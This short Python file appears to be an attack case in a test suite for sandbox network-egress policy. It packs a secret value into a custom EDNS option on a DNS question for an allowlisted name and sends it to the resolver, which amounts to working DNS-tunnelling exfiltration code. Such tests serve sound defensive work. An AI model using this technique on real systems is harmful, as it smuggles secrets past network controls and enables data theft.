# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: data goes to the resolver in an EDNS option of a question about an allowed name
# proof: query
# needs: resolver
import socket
import struct

from attack import RESOLVER, SECRET, attempt, patience


def labels(*names):
    return b"".join(bytes([len(name)]) + name.encode() for name in names) + b"\0"


def question(*names, records=0):
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0" + bytes([records]) + labels(*names) + b"\0\x01\0\x01"


@attempt
def ask():
    secret = SECRET.encode()
    option = struct.pack(">HH", 65001, len(secret)) + secret
    record = b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.settimeout(patience(3))
    out.connect((RESOLVER, 53))
    out.send(question("api", "allowed", "example", records=1) + record)
    return len(out.recv(512)) > 12
